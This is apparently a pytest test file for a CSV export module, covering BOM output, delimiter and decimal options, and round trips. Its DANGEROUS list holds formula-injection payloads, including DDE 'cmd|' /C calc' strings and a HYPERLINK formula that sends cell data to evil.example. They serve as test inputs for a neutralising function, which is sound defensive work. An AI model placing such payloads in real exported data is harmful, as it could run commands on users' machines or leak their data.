"""The Exact CSV writer: notation options, UTF-8 with BOM, formula-injection neutralising, and
round trips through the csv module and numnum_xl.readers.read_table."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal

import pytest

from numnum_xl.exact.csvout import CsvFormat, neutralise, read_csv, render, write_csv
from numnum_xl.readers import read_table

# --- formula injection -----------------------------------------------------------------------

DANGEROUS = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "-", "+", "@", "=", "-5% korting", "+32 9 123 45 67 (=kantoor)",
    "-1+A1", "+A1", "=-1",
]
INERT = ["-12,50", "-12.50", "+32 9 123 45 67", "+32 (0)9 123-45-67", "-1", "870,00", "0",
         "Bakkerij Janssen", "", "1=1", "a@b.be", "Café ‘t Hoekske", " =1 (space first)"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_triggers_are_quoted(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", INERT)
def test_numbers_phones_and_plain_text_stay(value):
    assert neutralise(value) == value


def test_no_inert_value_can_call_anything():
    """What stays unquoted despite a trigger has no letter, quote, ! | : & = * ^ % or @."""
    for value in INERT:
        if value[:1] in "=+-@\t\r" and value:
            assert not any(ch.isalpha() or ch in "\"'!|:&=*^%@$;" for ch in value), value


# --- notation and round trips ----------------------------------------------------------------

HEADERS = ["Naam", "Bedrag", "Datum", "Telefoon", "Omschrijving"]


def _rows(fmt: CsvFormat) -> list[list[str | None]]:
    return [
        ["Bakkerij Janssen", fmt.amount(Decimal("870")), fmt.date(dt.date(2024, 1, 2)),
         "+32 9 123 45 67", "Rijles 60 min - Pakket D"],
        ["=HYPERLINK(\"x\")", fmt.amount(Decimal("-12.5")), fmt.date(dt.date(2024, 12, 31)),
         None, "Regel met ; puntkomma, komma en \"aanhalingstekens\""],
        ["Café ‘t Hoekske – Ærø", fmt.amount(Decimal("1234.565")),
         fmt.date(dt.date(2024, 2, 29)), "-", "@SUM(1)"],
    ]


FORMATS = [CsvFormat(), CsvFormat(delimiter=",", decimal=",", date_format="dd/mm/jjjj"),
           CsvFormat(delimiter=",", decimal=".", date_format="jjjj-mm-dd"),
           CsvFormat(delimiter=";", decimal=".")]


@pytest.mark.parametrize("fmt", FORMATS, ids=lambda f: f"{f.delimiter}{f.decimal}{f.date_format}")
def test_round_trip_csv_module_and_read_table(tmp_path, fmt):
    rows = _rows(fmt)
    path = write_csv(tmp_path / "uit.csv", HEADERS, rows, fmt)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data and data.endswith(b"\r\n")
    written = [[neutralise(v) if v else "" for v in r] for r in rows]
    back = read_csv(path, fmt)
    assert back == [HEADERS, *written]
    with open(path, encoding="utf-8-sig", newline="") as fh:  # the plain csv module, too
        assert list(csv.reader(fh, delimiter=fmt.delimiter)) == [HEADERS, *written]
    table = read_table(path)
    assert table.info["delimiter"] == fmt.delimiter
    assert table.info["encoding"] == "utf-8-sig"
    assert table.headers == HEADERS
    assert table.rows == [[v or None for v in r] for r in written]


def test_amounts_dates_and_quotes_in_text():
    fmt = CsvFormat()
    text = render(HEADERS, _rows(fmt), fmt)
    lines = text.split("\r\n")
    assert lines[1] == "Bakkerij Janssen;870,00;02-01-2024;+32 9 123 45 67;" \
                       "Rijles 60 min - Pakket D"
    assert lines[2].startswith('"\'=HYPERLINK(""x"")";-12,50;31-12-2024;;')  # amount as is
    assert ";1234,57;" in lines[3]  # rounded half up, no thousands separator
    assert lines[3].endswith(";'-;'@SUM(1)")
    comma = render(HEADERS, _rows(CsvFormat(delimiter=",")), CsvFormat(delimiter=","))
    assert '"870,00"' in comma and '"-12,50"' in comma  # a decimal comma is quoted, not split


def test_format_rejects_unknown_choices():
    for bad in ({"delimiter": "\t"}, {"decimal": ";"}, {"date_format": "mm/dd/jjjj"}):
        with pytest.raises(ValueError):
            CsvFormat(**bad)
